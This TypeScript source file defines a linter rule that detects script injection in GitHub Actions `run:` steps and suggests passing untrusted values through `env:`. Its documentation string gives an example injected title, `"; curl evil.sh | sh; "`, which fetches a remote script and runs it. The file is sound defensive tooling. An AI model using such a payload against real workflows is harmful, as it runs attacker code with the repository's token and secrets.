import { defineRule } from '../../engine/rule';
import { expressionSpan, expressionsOf } from '../../workflow/expressions';
import { shellOf } from '../../workflow/scripts';
import { hoistFix } from '../shared/hoist';
import { shellReplacer } from '../shared/hoist-shell';
import { taintedExpressions } from '../shared/injection';
import { workflowShell } from '../shared/workflow-facts';

export default defineRule({
  id: 'script-injection-run',
  category: 'injection',
  severity: 'high',
  confidence: 'high',
  scope: 'job',
  profile: 'recommended',
  level: 2,
  since: '0.1.0',
  fix: 'safe',
  docs: {
    summary: 'Finds `${{ }}` in `run:` scripts whose text somebody outside of the repository writes.',
    why: 'GitHub pastes the text into the script before the shell reads it, so a title like `"; curl evil.sh | sh; "` runs with the job\'s token and secrets.',
    references: [
      'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    ],
    standards: ['SEC-4', 'CIS 1.5.2', 'CIS 2.3.6', 'STRIDE T', 'STRIDE E'],
  },
  messages: {
    text: '`{path}` is pasted into this script before the shell reads it, and {who} writes it. Pass it through `env:` and use the variable in quotes.',
    serialised: '`{path}` is pasted into this script as JSON, and parts of it are written by {who}: a quote in there ends yours. Pass it through `env:` and use the variable in quotes.',
  },
  aliases: { zizmor: ['template-injection'], actionlint: ['expression'], codeql: ['actions/code-injection/critical', 'actions/code-injection/medium'] },
  create(context) {
    return {
      script({ scalar, entry, step }) {
        const expressions = expressionsOf(scalar);
        if (expressions.length === 0) return;
        context.instance();
        const tainted = taintedExpressions(context, step, expressions);
        if (tainted.length === 0) return;
        const { shell, certain } = shellOf(step, step.job ? context.query(workflowShell) ?? undefined : undefined);
        const replace = certain ? shellReplacer(scalar.value, shell) : undefined;
        for (const { expression, taint, adjust, related } of tainted) {
          const fix = replace && hoistFix(step, entry, scalar, expression, taint, replace);
          context.report({
            at: expressionSpan(scalar, expression), messageId: taint.kind === 'serialised' ? 'serialised' : 'text', data: { path: taint.path, who: taint.who },
            adjust, related, ...(taint.kind === 'email' || taint.kind === 'path' ? { confidence: 'medium' as const } : {}), fixes: fix ? [fix] : [],
          });
        }
      },
    };
  },
});
